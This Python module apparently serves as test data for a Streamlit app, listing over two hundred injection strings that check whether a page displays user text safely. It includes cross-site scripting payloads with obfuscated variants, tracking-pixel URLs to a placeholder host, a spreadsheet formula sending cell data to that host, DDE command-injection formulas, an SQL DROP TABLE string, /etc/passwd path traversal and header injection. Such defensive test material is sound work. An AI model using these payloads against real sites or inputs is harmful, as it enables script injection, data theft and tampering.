"""Texts that attack a page which shows them: markup, Markdown, addresses, direction marks, and what breaks layouts.

Two hundred and more: some written by hand, the others every tag with every way to run, every scheme in every spelling.

`TRACKER` and `BEACON` are names that no page of ours may ever ask for.
"""

from __future__ import annotations

TRACKER = "http://tracker.invalid/p.png"

_BY_HAND = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    f"<img src='{TRACKER}'>",
    f"![pixel]({TRACKER})",
    f"[![pixel]({TRACKER})](javascript:alert(3))",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<iframe src=javascript:alert(6)></iframe>",
    "<body onload=alert(7)>",
    "<details open ontoggle=alert(8)>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(9)>",
    "<a href='javascript:alert(10)'>click</a>",
    "javascript:alert(11)",
    "[x](javascript:alert(12))",
    "data:text/html,<script>alert(13)</script>",
    '"><script>alert(14)</script>',
    "'-alert(15)-'",
    "${alert(16)}",
    "{{constructor.constructor('alert(17)')()}}",
    "</textarea><script>alert(18)</script>",
    "</style><script>alert(19)</script>",
    "<style>@import 'http://tracker.invalid/a.css';</style>",
    "<link rel=stylesheet href=http://tracker.invalid/b.css>",
    "<base href=http://tracker.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://tracker.invalid/'>",
    "<form action=http://tracker.invalid/><input autofocus onfocus=alert(20)>",
    "<video src=http://tracker.invalid/v.mp4 autoplay onerror=alert(21)>",
    "<object data=http://tracker.invalid/o.swf>",
    "<template shadowrootmode=open><script>alert(22)</script></template>",
    "&lt;script&gt;alert(23)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(24)\\u003c/script\\u003e",
    "\u202egnp.exe\u202c \u2066hidden\u2069",
    "https://user:pass@tracker.invalid/x<img src=x onerror=alert(25)>",
    "http://tracker.invalid/'onmouseover='alert(26)",
    ":material/delete: :red[danger] $\\href{javascript:alert(27)}{x}$",
    "| a | b |\n|---|---|\n| ![x](http://tracker.invalid/t.png) | <b>c</b> |",
    "# heading\n\n***bold*** ~~gone~~ `code` <u>x</u>",
    "Z̷̢̛̹a̸̡̛͓l̵̨̛͎g̶̡̛͓ơ̷̢͎ " * 6,
    "A" * 260,
    "﷽𒐫𒈙⸻ \u200b\u200d\ufeff \U000e0041\U000e0042",
)

#: elements that run something by themselves when they come into a page
_RUNNING = (
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    "<img src='x' onerror='{}' ",
    "<img src=x onload={} srcset='{tracker} 2x'>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
    "<svg><style>*{{background:url({tracker})}}</style></svg>",
    "<script src={tracker}></script>",
    "<script>{}//",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>",
    "<script\x0c>{}</script>",
    "<\x00script>{}</script>",
    "<iframe srcdoc='<img src=x onerror={}>'></iframe>",
    "<iframe onload={}></iframe>",
    "<iframe src='data:text/html,<script>{}</script>'></iframe>",
    "<embed src='javascript:{}'>",
    "<object data='javascript:{}'></object>",
    "<audio src=x onerror={}>",
    "<audio src={tracker} autoplay>",
    "<video><source onerror={}></video>",
    "<video poster={tracker}></video>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<button autofocus onfocus={}>",
    "<a autofocus tabindex=0 onfocus={}>",
    "<div contenteditable autofocus onfocus={}>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={}>",
    "<b style='transition:1s' ontransitionrun={}>",
    "<marquee onstart={}>",
    "<body onpageshow={}>",
    "<frameset onload={}>",
    "<table background={tracker}>",
    "<td background={tracker}>",
    "<link rel=preload as=image href={tracker}>",
    "<link rel=prefetch href={tracker}>",
    "<link rel=dns-prefetch href={tracker}>",
    "<link rel=modulepreload href={tracker}>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<b style='background:url({tracker})'>",
    "<b style=background-image:url(&quot;{tracker}&quot;)>",
    "<div style='list-style:url({tracker})'>",
    "<picture><source srcset={tracker}><img></picture>",
    "<input type=image src={tracker}>",
    "<track src={tracker} default>",
    "<portal src={tracker}>",
    "<dialog open onfocus={}>",
    "<x onclick={} autofocus tabindex=1>click</x>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<math href='javascript:{}'>click</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<title><img src=x onerror={}></title>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<isindex action='javascript:{}' type=submit>",
    "<template><img src=x onerror={}></template>",
    "<slot onslotchange={}></slot>",
    "<details ontoggle={} open>x</details>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
)

#: what stands before the code when it is hidden in an address
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "javascript://example.com/%0a",
    "vbscript:",
    "data:text/html;base64,",
    "data:image/svg+xml,<svg onload=",
    "blob:https://tracker.invalid/",
    "file:///etc/passwd#",
    "view-source:javascript:",
    "feed:javascript:",
    "//tracker.invalid/",
    "\\\\tracker.invalid\\",
    "https:tracker.invalid/",
    "http://tracker.invalid\\@localhost/",
)

#: how an address comes into a page that reads Markdown, HTML or nothing at all
_PLACES = (
    "{}",
    "<a href='{}'>x</a>",
    "[x]({})",
    "![x]({})",
    "<{}>",
)

#: what Markdown and Streamlit's own signs make of a text
_SIGNS = (
    f"[![x]({TRACKER})]({TRACKER})",
    f"![x][1]\n\n[1]: {TRACKER}",
    f"[x]: {TRACKER} 'title'",
    f"<{TRACKER}>",
    f"![]({TRACKER} =1x1)",
    f":blue-background[![x]({TRACKER})]",
    f":red[<img src={TRACKER}>]",
    ":material/bug_report: :streamlit: :smile: :shortcode:",
    ":rainbow[x] :gray-badge[y] :small[z]",
    "$$\\includegraphics{http://tracker.invalid/a.png}$$",
    "$\\url{javascript:alert(1)}$ $\\htmlData{x=1}{y}$",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n</code></pre><script>alert(1)</script>",
    "> quote\n> <img src=x onerror=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<details><summary>x</summary>\n\n<img src=x onerror=alert(1)></details>",
    "*<img src=x onerror=alert(1)>*",
    "\\<img src=x onerror=alert(1)\\>",
    '=HYPERLINK("http://tracker.invalid/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "{{7*7}}${{7*7}}#{7*7}<%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "\u2028alert(1)\u2029",
    "\u202e<tpircs>",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "../../../../etc/passwd",
    "'; DROP TABLE interactions; --",
    "\r\nSet-Cookie: a=b",
    "x" * 200 + "<img src=x onerror=alert(1)>",
)


def _all() -> tuple[str, ...]:
    """Return every payload once, those by hand first."""
    running = [one.format("alert(1)", tracker=TRACKER) for one in _RUNNING]
    hidden = [
        place.format(scheme + "alert(1)")
        for number, scheme in enumerate(_SCHEMES)
        for place in (_PLACES if number < 8 else _PLACES[number % 5 : number % 5 + 1])
    ]
    return tuple(dict.fromkeys([*_BY_HAND, *running, *hidden, *_SIGNS]))


PAYLOADS = _all()
